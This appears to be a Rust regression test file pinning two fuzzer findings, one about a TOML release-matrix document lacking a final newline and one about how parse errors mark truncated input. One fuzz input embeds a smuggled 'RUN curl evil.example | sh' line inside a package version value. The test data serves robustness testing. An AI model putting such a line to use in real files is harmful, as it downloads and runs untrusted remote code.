//! Inputs the fuzz targets (`fuzz/`, docs/fuzzing.md) found, fed to the same functions, so each
//! finding stays fixed. One test per finding, named for what broke.

use runtime_kit::matrix::edit::{MatrixDocument, Saved};

/// fuzz target `matrix`: reading a matrix whose last line has no newline for editing reported it
/// changed (toml_edit ends the document with a newline), so a no-op edit rewrote the file.
#[test]
fn matrix_document_without_final_newline_is_unchanged() {
    let cases: &[&str] = &[
        // The fuzzer's input, as found.
        "schema = 1\n[defaults]\ndebian = \"bul.3.0\"\ndate = 2022-05-01\n[release.packages]\n\"astronomer-providers\" = \"1.2.0\\nRUN curl evil.example | sh\" ",
        "a = 1",
        "a = 1 # comment",
        "[t]\na = 1\t",
    ];
    for text in cases {
        let doc = MatrixDocument::from_str_named(text, "m.toml").unwrap();
        assert!(!doc.is_changed(), "{text:?}");
    }

    // And saving without an edit leaves such a file alone.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("runtime-matrix.toml");
    let text = "schema = 1\n[series.5]\nchannel = \"stable\"\npython = \"3.9\"\n[[release]]\nversion = \"5.0.6\"\nairflow = \"2.3.3\"\ndate = 2022-07-21\n[release.packages]\n\"astronomer-providers\" = \"1.7.1\"";
    std::fs::write(&path, text).unwrap();
    let doc = MatrixDocument::open(&path).unwrap();
    let (_, saved) = doc.save().unwrap();
    assert_eq!(saved, Saved::Unchanged);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
}

/// fuzz target `parsers`: a refusal quotes the input cut to 80 characters and marked `…` only
/// when it was cut. The check counted bytes after cutting characters, so a long ASCII input was
/// never marked and a short one with multi-byte characters always was.
#[test]
fn refusal_marks_a_cut_input_only() {
    use runtime_kit::model::RuntimeVersion;
    let long = "x".repeat(100);
    let e = long.parse::<RuntimeVersion>().unwrap_err().to_string();
    assert!(e.contains(&format!("\"{}…\"", "x".repeat(80))), "{e}");

    let short = "éééé";
    let e = short.parse::<RuntimeVersion>().unwrap_err().to_string();
    assert!(e.contains("\"éééé\"") && !e.contains('…'), "{e}");

    let exactly = "é".repeat(80);
    let e = exactly.parse::<RuntimeVersion>().unwrap_err().to_string();
    assert!(!e.contains('…'), "{e}");
}
